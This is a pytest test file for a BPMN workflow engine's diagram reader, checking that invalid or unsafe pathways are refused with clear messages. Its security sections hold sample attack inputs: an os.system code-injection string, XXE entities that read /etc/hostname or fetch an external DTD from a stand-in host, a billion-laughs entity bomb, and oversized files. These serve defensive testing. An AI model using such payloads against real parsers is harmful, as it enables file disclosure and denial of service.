"""What cannot be run is refused when it is read, with the element's name and a sentence, in bounded time."""

from __future__ import annotations

from collections.abc import Mapping
from time import perf_counter

import pytest

import engine
from tests.unit.engine.drawing import (
    HEAD,
    box,
    call,
    choice,
    drawn,
    file,
    flow,
    message,
    parallel,
    path,
    pathway,
    script,
    start,
    stop,
    tag,
    task,
    throw,
    timer,
)

CODE = "=__import__('os').system('true')"


def problems(files: Mapping[str, bytes]) -> list[engine.Problem]:
    """Why the files are refused; none where they are not."""
    try:
        engine.read_pathways(files)
    except engine.Refused as refused:
        return list(refused.problems)
    return []


def sentences(*content: str, messages: tuple[str, ...] = ()) -> dict[str | None, str]:
    """Why a pathway of that content is refused: by element."""
    return {each.element: each.message for each in problems(drawn("p", *content, messages=messages))}


def of_bytes(content: bytes) -> str:
    """Why a file of those bytes is refused."""
    began = perf_counter()
    (problem,) = problems({"bpmn/p.bpmn": content})
    assert perf_counter() - began < 5
    return problem.message


PLAIN = (start(), task("write"), stop(), path("begin", "write", "done"))


def test_a_plain_pathway_is_read() -> None:
    assert problems(drawn("p", *PLAIN)) == []


# What SpiffWorkflow drops in silence, or stumbles over when a case runs


def test_an_element_that_no_arrow_reaches_is_refused() -> None:
    found = sentences(*PLAIN, task("forgotten"), stop("end_2"), path("forgotten", "end_2"))

    assert set(found) == {"forgotten", "end_2"}
    assert found["forgotten"] == "No arrow leads here from the start, so it would never be reached."


def test_a_ring_that_nothing_leads_into_is_refused() -> None:
    ring = (choice("round_1"), task("write_2"), path("round_1", "write_2", "round_1"))

    assert set(sentences(*PLAIN, *ring)) == {"round_1", "write_2"}


def test_an_element_that_only_an_edge_leads_to_is_reached() -> None:
    late = (timer("due", "=today()", on="write"), task("chase"), stop("late"), path("due", "chase", "late"))

    assert sentences(*PLAIN, *late) == {}


def test_what_stands_in_a_box_is_looked_at_too() -> None:
    inside = box("inner", start("i_1"), task("write"), stop("i_2"), task("lost"), path("i_1", "write", "i_2"))

    assert "lost" in sentences(start(), inside, stop(), path("begin", "inner", "done"))


@pytest.mark.parametrize(
    "element",
    [task("last"), script("last", "x", "=1"), choice("last"), parallel("last"), throw("last", "m")],
    ids=["task", "script", "choice", "parallel", "throw"],
)
def test_a_way_that_stops_without_an_end_is_refused(element: str) -> None:
    found = sentences(start(), element, path("begin", "last"), messages=("m",))

    assert "stops here without an end event" in found["last"]


def test_a_decision_without_a_default_is_refused() -> None:
    found = sentences(
        start(), choice("which"), stop("a"), stop("b"), path("begin", "which"),
        flow("which", "a", "=x = 1"), flow("which", "b", "=x = 2"),
    )  # fmt: skip

    assert "has no default" in found["which"]


def test_an_arrow_of_a_decision_without_a_condition_is_refused() -> None:
    found = sentences(
        start(), choice("which", "f_a"), stop("a"), stop("b"), path("begin", "which"),
        flow("which", "a", identity="f_a"), flow("which", "b", identity="f_b"),
    )  # fmt: skip

    assert "under which condition" in found["f_b"]


def test_a_default_with_a_condition_is_refused() -> None:
    found = sentences(
        start(), choice("which", "f_a"), stop("a"), stop("b"), path("begin", "which"),
        flow("which", "a", "=x = 1", identity="f_a"), flow("which", "b", "=x = 2"),
    )  # fmt: skip

    assert "has none itself" in found["f_a"]


def test_a_condition_on_the_only_way_on_is_refused() -> None:
    found = sentences(
        start(),
        choice("which"),
        stop(),
        path("begin", "which"),
        flow("which", "done", "=x = 1", identity="f_1"),
    )

    assert "only arrow out has no condition" in found["f_1"]


def test_a_condition_elsewhere_is_refused() -> None:
    found = sentences(start(), stop(), flow("begin", "done", "=x = 1", identity="f_1"))

    assert "exclusive gateway" in found["f_1"]


def test_two_arrows_into_a_task_are_refused() -> None:
    found = sentences(
        start(), parallel("fork"), task("write"), script("one", "x", "=1"), stop(),
        path("begin", "fork", "write", "done"), path("fork", "one", "write"),
    )  # fmt: skip

    assert "Put an exclusive gateway before this" in found["write"]


def test_two_arrows_out_of_a_task_are_refused() -> None:
    found = sentences(
        start(), task("write"), stop(), stop("d"), path("begin", "write", "done"), path("write", "d")
    )

    assert "Only a gateway has several arrows out" in found["write"]


UNKNOWN = {
    "bpmn:task": "Make it a user task",
    "bpmn:manualTask": "Make it a user task",
    "bpmn:serviceTask": "Nothing authored runs code",
    "bpmn:businessRuleTask": "Leave it out",
    "bpmn:sendTask": "message throw event",
    "bpmn:receiveTask": "message catch event",
    "bpmn:inclusiveGateway": "exclusive or a parallel gateway",
    "bpmn:eventBasedGateway": "user task with a boundary event",
    "bpmn:complexGateway": "Leave it out",
    "bpmn:adHocSubProcess": "Draw the tasks in their order",
    "bpmn:transaction": "Leave it out",
}


@pytest.mark.parametrize("unknown", UNKNOWN)
def test_an_element_outside_the_profile_is_refused_with_what_to_do_instead(unknown: str) -> None:
    found = sentences(start(), tag(unknown, id="strange"), stop(), path("begin", "strange", "done"))

    assert "is not part of the authoring profile" in found["strange"]
    assert UNKNOWN[unknown] in found["strange"]


@pytest.mark.parametrize(
    "definition",
    ["signal", "error", "escalation", "compensate", "conditional", "cancel", "link"],
)
def test_an_event_outside_the_profile_is_refused(definition: str) -> None:
    inside = "<bpmn:condition/>" if definition == "conditional" else ""
    attributes = {"name": "x"} if definition == "link" else {}
    event = tag(
        "bpmn:intermediateCatchEvent",
        tag(f"bpmn:{definition}EventDefinition", inside, **attributes),
        id="strange",
    )

    assert sentences(start(), event, stop(), path("begin", "strange", "done")) != {}


@pytest.mark.parametrize("kind", ["timeDuration", "timeCycle"])
def test_a_timer_that_gives_no_date_is_refused(kind: str) -> None:
    definition = tag("bpmn:timerEventDefinition", tag(f"bpmn:{kind}", "P1D"))
    event = tag("bpmn:intermediateCatchEvent", definition, id="wait")

    assert "set by a date alone" in sentences(start(), event, stop(), path("begin", "wait", "done"))["wait"]


def test_several_instances_are_refused() -> None:
    several = task("write").replace(
        "</bpmn:userTask>", "<bpmn:multiInstanceLoopCharacteristics/></bpmn:userTask>"
    )

    assert "several instances" in sentences(start(), several, stop(), path("begin", "write", "done"))["write"]


def test_an_event_sub_process_is_refused() -> None:
    event = box("inner", start("i_1"), stop("i_2"), path("i_1", "i_2")).replace(
        'id="inner"', 'id="inner" triggeredByEvent="true"'
    )

    assert "inner" in sentences(*PLAIN, event)


def test_calls_that_come_round_to_themselves_are_refused() -> None:
    def calling(name: str, other: str) -> dict[str, bytes]:
        return drawn(name, start(), call("inner", other), stop(), path("begin", "inner", "done"))

    found = problems(calling("a", "b") | calling("b", "c") | calling("c", "a"))

    assert {each.file for each in found} == {"bpmn/a.bpmn", "bpmn/b.bpmn", "bpmn/c.bpmn"}
    assert all("would never end" in each.message for each in found)


def test_a_call_of_what_is_not_there_is_refused() -> None:
    assert (
        "no shared procedure"
        in sentences(start(), call("c", "nowhere"), stop(), path("begin", "c", "done"))["c"]
    )


def test_every_problem_is_told_at_once() -> None:
    found = problems(drawn("a", *PLAIN, task("lost_1")) | drawn("b", *PLAIN, task("lost_2")))

    assert {(each.file, each.element) for each in found} == {
        ("bpmn/a.bpmn", "lost_1"),
        ("bpmn/b.bpmn", "lost_2"),
    }


def test_comments_inside_a_script_are_harmless() -> None:
    content = script("one", "x", "=1").replace("<zeebe:script", "<!-- one -->\n<zeebe:script")
    files = drawn("p", start(), "<!-- before -->", content, stop(), path("begin", "one", "done"))

    pathways = engine.read_pathways(files)

    assert sorted(pathways["p"].graph.nodes) == ["begin", "done", "one"]


def test_a_comment_inside_an_expression_is_harmless() -> None:
    content = timer("wait", "=today()").replace("=today()", "=today<!-- the day it is -->()")

    assert problems(drawn("p", start(), content, stop(), path("begin", "wait", "done"))) == []


# Nothing authored runs code


def wrapped(element: str, identity: str) -> tuple[str, ...]:
    return (start(), element, stop(), path("begin", identity, "done"))


CODE_IN = {
    "script": wrapped(script("e", "x", CODE), "e"),
    "due of a timer": wrapped(timer("e", CODE), "e"),
    "form": wrapped(task("e", form=CODE), "e"),
    "roles": wrapped(task("e", roles=CODE), "e"),
    "property": wrapped(task("e", title=CODE), "e"),
    "input of a call": wrapped(call("e", "p_2", {"x": CODE}), "e"),
    "output of a call": wrapped(call("e", "p_2", {}, {"x": CODE}), "e"),
    "payload": wrapped(throw("e", "m", {"x": CODE}), "e"),
    "output of a catch": wrapped(message("e", "m", outputs={"x": CODE}), "e"),
    "payload of an end": (start(), stop("e", message="m", payload={"x": CODE}), path("begin", "e")),
    "condition": (
        start(), choice("w", "f_1"), stop("a"), stop("b"), path("begin", "w"),
        flow("w", "a", identity="f_1"), flow("w", "b", CODE, identity="e"),
    ),
    "edge": (*PLAIN, timer("e", CODE, on="write"), stop("late"), path("e", "late")),
}  # fmt: skip


@pytest.mark.parametrize("where", CODE_IN)
def test_code_is_refused_wherever_an_expression_may_stand(where: str) -> None:
    files = drawn("p", *CODE_IN[where], messages=("m",))
    files |= drawn("p_2", start(), stop(), path("begin", "done"))

    found = problems(files)

    assert "e" in {each.element for each in found}
    assert any("cannot be used" in each.message for each in found)


@pytest.mark.parametrize(
    "element", [script("e", "x", CODE[1:]), timer("e", CODE[1:])], ids=["script", "timer"]
)
def test_what_is_not_written_as_an_expression_is_refused_too(element: str) -> None:
    assert "begins with an equals sign" in sentences(*wrapped(element, "e"))["e"]


# XML from strangers

WHOLE = file(pathway("p", start(), stop(), path("begin", "done"))).decode()
LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
TEN_MEGABYTES = " " * 10_000_000

DOCTYPES = {
    "plain": "<!DOCTYPE definitions>",
    "entity": '<!DOCTYPE definitions [<!ENTITY e "x">]>',
    "file": '<!DOCTYPE definitions [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    "network": '<!DOCTYPE definitions SYSTEM "http://192.0.2.1/evil.dtd">',
    "parameter": '<!DOCTYPE definitions [<!ENTITY % e SYSTEM "http://192.0.2.1/evil.dtd"> %e;]>',
}


@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16", "UTF-16LE", "UTF-32"])
def test_a_doctype_is_refused_in_every_encoding(doctype: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{DOCTYPES[doctype]}{WHOLE}'

    assert "DOCTYPE" in of_bytes(text.encode(encoding))


def test_a_file_in_another_encoding_is_read() -> None:
    text = f'<?xml version="1.0" encoding="UTF-16"?>{WHOLE}'

    assert problems({"bpmn/p.bpmn": text.encode("UTF-16")}) == []


@pytest.mark.parametrize("place", ["text", "attribute"])
def test_entities_within_entities_are_refused(place: str) -> None:
    bomb = f'<!DOCTYPE definitions [<!ENTITY e0 "ha">{LAUGHS}]>{WHOLE}'
    if place == "text":
        bomb = bomb.replace("</bpmn:process>", "<bpmn:documentation>&e9;</bpmn:documentation></bpmn:process>")
    else:
        bomb = bomb.replace('isExecutable="true"', 'isExecutable="true" name="&e9;"')

    assert of_bytes(bomb.encode())


def test_an_entity_brings_no_file_in() -> None:
    bomb = f"{DOCTYPES['file']}{WHOLE}".replace('isExecutable="true"', 'isExecutable="true" name="&e;"')

    assert of_bytes(bomb.encode())


def in_process(inside: str) -> bytes:
    return WHOLE.replace("</bpmn:process>", f"{inside}</bpmn:process>").encode()


def with_attributes(attributes: str) -> bytes:
    return WHOLE.replace('isExecutable="true"', f'isExecutable="true" {attributes}').encode()


HUGE = {
    "ten megabytes": (in_process(TEN_MEGABYTES), "larger than 2 MB"),
    "an attribute": (with_attributes(f'name="{"a" * 1_900_000}"'), "more than 20,000 characters"),
    "a text": (
        in_process(f"<bpmn:documentation>{'a' * 1_900_000}</bpmn:documentation>"),
        "more than 20,000 characters",
    ),
    "attributes": (with_attributes(" ".join(f'a{n}="1"' for n in range(150_000))), "more than 50 attributes"),
    "elements": (in_process("<bpmn:documentation/>" * 90_000), "more than 20,000 elements"),
    "depth": (in_process("<a>" * 200_000 + "</a>" * 200_000), "depth"),
    "boxes": (in_process("<bpmn:subProcess>" * 200 + "</bpmn:subProcess>" * 200), "more than 60 deep"),
}


@pytest.mark.parametrize("what", HUGE)
def test_a_huge_file_is_refused_in_bounded_time(what: str) -> None:
    content, why = HUGE[what]

    assert why in of_bytes(content)


@pytest.mark.parametrize(
    "source", ["=" + "(" * 5_000 + ")" * 5_000, "=" + "1+" * 9_000 + "1"], ids=["deep", "long"]
)
def test_a_huge_expression_is_refused_in_bounded_time(source: str) -> None:
    assert "cannot be used" in sentences(*wrapped(script("e", "x", source), "e"))["e"]


@pytest.mark.parametrize("content", [b"", b"\0" * 50, b"hello", b"<a/>", HEAD.encode(), b"\xff\xfe<"])
def test_what_is_no_diagram_is_refused_with_a_sentence(content: bytes) -> None:
    assert of_bytes(content).startswith("The file is not")


def test_an_instruction_to_the_reader_of_the_file_does_nothing() -> None:
    text = f'<?xml version="1.0"?><?xml-stylesheet href="http://192.0.2.1/x.xsl"?>{WHOLE}'

    assert problems({"bpmn/p.bpmn": text.encode()}) == []
